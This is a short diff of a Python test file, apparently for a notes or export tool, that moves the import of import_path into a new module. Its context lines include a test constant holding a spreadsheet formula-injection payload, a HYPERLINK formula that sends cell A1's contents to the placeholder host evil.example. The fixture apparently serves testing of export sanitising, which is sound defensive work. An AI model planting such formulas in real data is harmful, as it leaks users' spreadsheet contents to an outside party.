@@ -17,7 +17,8 @@ import pytest
 from core.desk import Desk
 from core.errors import DeskError, UserError
 from core.export import ExportCancelled, export, restore_dump
-from core.review import Review, import_path
+from core.importing import import_path
+from core.review import Review
 
 TRICKY_NOTE = 'He said "26, not 29",\nthen left — 中文 مرحبا 😀'
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
